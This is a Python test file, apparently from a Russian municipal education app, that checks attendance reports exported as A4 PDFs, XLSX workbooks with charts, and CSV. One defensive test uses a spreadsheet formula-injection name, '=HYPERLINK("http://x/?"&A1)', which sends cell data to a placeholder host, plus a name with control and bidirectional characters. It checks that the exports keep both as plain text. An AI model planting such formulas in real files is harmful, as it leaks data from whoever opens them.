"""Attendance reports as files: Russian A4 PDFs, typed XLSX with a native chart, tidy CSV."""

import datetime
import io
import re

import pandas as pd
import pytest
from openpyxl import load_workbook

from events.reports import builder, pdf, tidy, xlsx
from events.reports.formats import format_value
from tests.events import attendance_fixture
from tests.events.attendance_fixture import NOW
from tests.factories import PersonFactory
from tests.pdf_text import needs_pdftotext, pdf_text

A4 = (595.28, 841.89)


@pytest.fixture
def school(municipality):
    curator = PersonFactory(municipality=municipality, last_name="Кураторова",
                            first_name="Ольга", patronymic="Ивановна")
    return attendance_fixture.build(municipality, curator_person=curator)


def page_sizes(content):
    """The (width, height) of every page, from the MediaBox ReportLab writes on each."""
    boxes = re.findall(rb"/MediaBox \[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", content)
    assert boxes
    return {(round(float(w), 2), round(float(h), 2)) for w, h in boxes}


def test_values_read_as_russian():
    assert format_value(0.5455, builder.PCT) == "54,5\u00a0%"
    assert format_value(2.5, builder.HOURS) == "2,5"
    assert format_value(24.0, builder.HOURS) == "24"
    assert format_value(datetime.date(2026, 3, 10), builder.DATE) == "10.03.2026"
    assert (format_value(None, builder.MARK), format_value("н", builder.MARK)) == ("", "н")


@needs_pdftotext
def test_program_pdf_is_landscape_a4_in_russian_with_header_pages_and_signature(
        school, tmp_path):
    content = pdf.to_pdf(builder.series_report(school.program, now=NOW))
    text = pdf_text(content, tmp_path)

    assert page_sizes(content) == {(A4[1], A4[0])}
    assert "Управление образования · Ханкайский муниципальный округ" in text
    assert "Посещаемость программы" in text
    assert "Программа: Мастер-мастеру" in text
    assert "Период: 01.01.2026 – 31.12.2027" in text
    assert "явка: 54,5 %" in text
    assert "Записывались и ни разу не пришли" in text and "Дмитриева Дина" in text
    assert "Куратор программы: Кураторова Ольга Ивановна" in text
    assert "Подпись" in text
    pages = [page for page in text.split("\f") if page.strip()]
    footers = [next(line for line in page.splitlines() if "· Посещаемость программы" in line)
               for page in pages]
    assert len(pages) >= 2
    assert [footer.split()[-1] for footer in footers] == [str(n) for n in
                                                           range(1, len(pages) + 1)]


@needs_pdftotext
def test_event_and_person_pdfs_are_portrait_a4(school, tmp_path):
    from events import services

    services.close_sheet(school.events["e1"])
    event_pdf = pdf.to_pdf(builder.event_report(school.events["e1"], now=NOW))
    person_pdf = pdf.to_pdf(builder.person_report(school.people["anna"], now=NOW))

    assert page_sizes(event_pdf) == page_sizes(person_pdf) == {A4}
    event_text = pdf_text(event_pdf, tmp_path)
    assert "Лист закрыт:" in event_text and "Итого" in event_text
    assert "пришёл(ла) без записи" in event_text
    person_text = pdf_text(person_pdf, tmp_path)
    assert "Антонова Анна Петровна" in person_text and "Мастер-класс" in person_text
    assert "академических часов: 5" in person_text


def test_xlsx_has_typed_cells_frozen_header_filters_and_a_native_chart(school):
    report = builder.series_report(school.program, now=NOW)
    book = load_workbook(io.BytesIO(xlsx.to_xlsx(report)))

    events = book["Мероприятия"]
    assert [c.value for c in events[1]][:3] == ["№", "дата", "мероприятие"]
    assert events["B2"].value == datetime.datetime(2026, 3, 10) and events["B2"].is_date
    assert events["B2"].number_format == "DD.MM.YYYY"
    assert (events["F2"].value, events["I2"].value) == (2, 0.5)
    assert events["I2"].number_format == "0.0%"
    assert events.freeze_panes == "A2" and events.auto_filter.ref == "A1:K5"
    schools = book["Посещаемость по школам"]
    assert [type(chart).__name__ for chart in schools._charts] == ["BarChart"]
    months = book["Посещаемость по месяцам"]
    [chart] = months._charts
    [series] = chart.series
    last = 1 + len(next(t for t in report.tables if t.key == "months").rows)
    assert [c.value for c in months[1]][7] == "посещений"  # column H, the chart's values
    assert series.val.numRef.f == f"'Посещаемость по месяцам'!$H$2:$H${last}"
    assert (series.cat.numRef or series.cat.strRef).f == (
        f"'Посещаемость по месяцам'!$A$2:$A${last}")
    assert months["A2"].value == "Март 2026" and last > 2
    matrix = book["Участник × мероприятие (ак. часы; «"[:31]]
    assert matrix.freeze_panes == "C2"
    assert (matrix["C2"].value, matrix["E2"].value) == (2, "н")
    summary = book["Сводка"]
    facts = {row[0].value: row[1].value for row in summary.iter_rows(min_row=7) if row[0].value}
    assert facts["явка"] == 0.5455 and facts["академических часов всего"] == 24


def test_csv_loads_with_one_read_csv_call_as_tidy_rows(school):
    content = tidy.to_csv(builder.series_report(school.program, now=NOW))

    rows = pd.read_csv(io.BytesIO(content), parse_dates=["Дата"])

    assert len(rows) == 5 + 5 + 4 + 2  # each (person, event) with a registration or a mark
    assert rows.columns[0] == "ID участника"
    assert rows["Присутствовал"].sum() == 8 and rows["Ак. часов засчитано"].sum() == 24
    assert rows["Не пришёл по записи"].sum() == 5
    assert str(rows["Дата"].dtype).startswith("datetime64")
    anna = rows[rows["ФИО"] == "Антонова Анна Петровна"]
    assert set(anna["Роль"]) == {"наставник"}


def test_hostile_names_stay_text_in_spreadsheets_and_pdf(municipality, tmp_path):
    fixture = attendance_fixture.build(municipality)
    person = fixture.people["vera"]
    person.last_name = '=HYPERLINK("http://x/?"&A1)'
    person.first_name = "Вера\x0b😊 \u202eבדיקה"
    person.save()
    report = builder.series_report(fixture.program, now=NOW)

    rows = pd.read_csv(io.BytesIO(tidy.to_csv(report)))
    names = set(rows["ФИО"])
    assert any(name.startswith("'=HYPERLINK") for name in names)
    book = load_workbook(io.BytesIO(xlsx.to_xlsx(report)))
    never = [c.value for row in book.worksheets[-1].iter_rows() for c in row
             if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert never and all(value.startswith("'=") for value in never)
    assert pdf.to_pdf(report).startswith(b"%PDF")
